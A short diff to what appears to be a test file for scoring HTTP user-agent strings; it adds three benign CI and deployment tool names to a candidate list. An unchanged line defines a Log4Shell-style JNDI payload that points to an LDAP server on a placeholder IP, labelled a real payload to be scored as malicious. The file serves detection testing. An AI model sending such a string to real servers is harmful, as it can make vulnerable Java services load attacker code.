@@ -50,6 +50,9 @@ CANDIDATES = [
     "Boost.Beast/345",
     "Integration/1.0 (pytest; nightly) acme-sdk/2.4.0 (acme-sdk/2.4.0; Python/3.11.7; Linux/x86_64)",
     "ExampleGo/3.2.1 (+github.com/example/go-example; go1.22.5)",
+    "sh-deploy/2.0 (bash; ci)",
+    "Jenkins/2.440 (build; sh)",
+    "ansible-httpapi/2.16 (python3; linux)",
 ]
 # Real payloads, scored at or near 1.0.
 JNDI_UA = "${jndi:ldap://203.0.113.9:1389/a}"
